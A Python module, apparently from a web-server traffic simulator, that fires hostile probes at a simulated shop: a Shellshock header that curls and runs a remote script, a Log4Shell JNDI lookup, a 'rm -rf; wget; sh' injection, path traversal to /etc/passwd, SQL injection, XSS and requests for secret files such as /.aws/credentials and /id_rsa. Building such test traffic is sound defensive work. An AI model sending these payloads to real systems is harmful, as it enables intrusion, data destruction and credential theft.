"""What the open internet sends to every server: scanners, exploits, and bytes that are no HTTP at all."""

import random
import ssl

from wire import Http1

ZGRAB = "Mozilla/5.0 zgrab/0.x"
SQLMAP = "sqlmap/1.9.8#stable (https://sqlmap.org)"
SHELLSHOCK = '() { :; }; /bin/bash -c "curl -s http://198.51.100.9/x.sh | sh"'
LOG4SHELL = "${jndi:ldap://198.51.100.9:1389/a}"
SCRIPT = '<script>alert(document.domain)</script>'
QUOTED = 'Mozilla/5.0 "quoted \\"twice\\"" C:\\Temp\\agent.exe \\'

SECRETS = ["/.env", "/.git/config", "/.aws/credentials", "/wp-login.php", "/xmlrpc.php", "/phpmyadmin/index.php",
           "/wp-content/plugins/hellopress/wp_filemanager.php", "/actuator/env", "/server-status", "/.DS_Store",
           "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/auth/logon.aspx", "/solr/admin/info/system",
           "/config.json", "/backup.zip", "/id_rsa", "/cgi-bin/luci/;stok=/locale", "/boaform/admin/formLogin"]

# (method, target, extra headers): each is one well-known attempt.
ATTEMPTS = [
    ("GET", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", {}),
    ("GET", "/static/..%252f..%252f..%252fetc/passwd", {}),
    ("GET", "/download.php?file=../../../../etc/passwd%00", {}),
    ("GET", "/index.php?lang=..%2f..%2f..%2fvar%2flog%2fnginx%2faccess.log", {}),
    ("GET", "/cgi-bin/status", {"User-Agent": SHELLSHOCK, "Referer": SHELLSHOCK}),
    ("GET", "/?x=${jndi:ldap://198.51.100.9:1389/a}", {"User-Agent": LOG4SHELL, "Referer": LOG4SHELL}),
    ("GET", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", {"User-Agent": SCRIPT, "Referer": f'"><{SCRIPT}'}),
    ("GET", "/products/lamp-elm/", {"User-Agent": QUOTED, "Referer": 'https://evil.example/"onload="x'}),
    ("GET", "/products/?id=1%27%20OR%20%271%27=%271", {"User-Agent": SQLMAP}),
    ("GET", "/search?q=1%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x71,user(),0x71)--%20-", {"User-Agent": SQLMAP}),
    ("GET", "/search?q=1;WAITFOR%20DELAY%20%270:0:5%27--", {"User-Agent": SQLMAP}),
    ("POST", "/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", {}),
    ("GET", "/?q=%c0%ae%c0%ae/%c0%ae%c0%ae/", {}),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.9/jaws;sh+/tmp/jaws", {"User-Agent": "Hello, world"}),
    ("GET", "http://example.com/", {"User-Agent": ZGRAB}),
    ("GET", "/", {"User-Agent": "\u00ff\u00fe\u0080 agent \u0001\u0002\t"}),
    ("GET", "/", {"User-Agent": ""}),
    ("PROPFIND", "/", {"User-Agent": "Microsoft-WebDAV-MiniRedir/10.0.19045"}),
    ("TRACE", "/", {}),
    ("GET", "/api/v1/orders", {"X-Forwarded-For": LOG4SHELL}),
]


def client_hello() -> bytes:
    """The first bytes of a TLS connection, as OpenSSL makes them."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    client = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname="shop.example")
    try:
        client.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def no_http(rng: random.Random) -> bytes:
    """Bytes that are not a request, though something sent them to port 80."""
    return rng.choice([
        client_hello(),
        b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03" + rng.randbytes(48),
        b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\r\n",
        b"SSH-2.0-Go\r\n",
        b"GET /\r\n",
        b"GET / HTTP/3.0\r\nHost: shop.example\r\n\r\n",
        b"GET /a b c HTTP/1.1\r\nHost: shop.example\r\n\r\n",
        b"GET /products/%zz/ HTTP/1.1\r\nHost: shop.example\r\n\r\n",
        b"get / http/1.1\r\n\r\n",
        b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n",
        b"GET / HTTP/1.1\r\nbad header line\r\n\r\n",
        b"GET / HTTP/1.1\r\n\r\n",
        b"OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n\r\n",
        b"POST /upload HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: identity, chunked\r\n\r\n",
        b"*1\r\n$4\r\nPING\r\n",
        b'{"id":1,"method":"mining.subscribe","params":["xmrig"]}\n',
        b"\x00\x00\x00\x54\xff\x53\x4d\x42\x72" + bytes(24),
        b"GET /cgi-bin/" + b"A" * 2_600 + b" HTTP/1.1\r\nHost: shop.example\r\n\r\n",
        b"GET /half-a-request HTTP/1.1\r\nHost: shop",
        b"\r\n\r\n\r\n",
    ])


async def probe(world) -> None:
    """One visit by something hostile."""
    rng = world.rng
    address, link = world.address(), Http1(world.balancer())
    if rng.random() < 0.4:
        await link.raw(no_http(rng), patience=1.5)
        return
    if rng.random() < 0.45:
        headers = {"X-Forwarded-For": address, "User-Agent": rng.choice((ZGRAB, "Mozilla/5.0", "-", "Nuclei - v3.4.10"))}
        for target in rng.sample(SECRETS, rng.randint(3, len(SECRETS))):
            await link.request("GET", target, headers)
            if link.writer is None:
                link = Http1(world.balancer())
    else:
        for method, target, extra in rng.sample(ATTEMPTS, rng.randint(1, 4)):
            link = Http1(world.balancer())
            await link.request(method, target, {"X-Forwarded-For": address} | extra)
            link.close()
    link.close()


async def poison(world) -> None:
    """The one line that the example's parser cannot digest: a query that ends in a lone percent sign."""
    link = Http1(world.balancer())
    await link.request("GET", "/search?q=100%", {"X-Forwarded-For": "203.0.113.7", "User-Agent": "curl/8.14.1"})
    link.close()
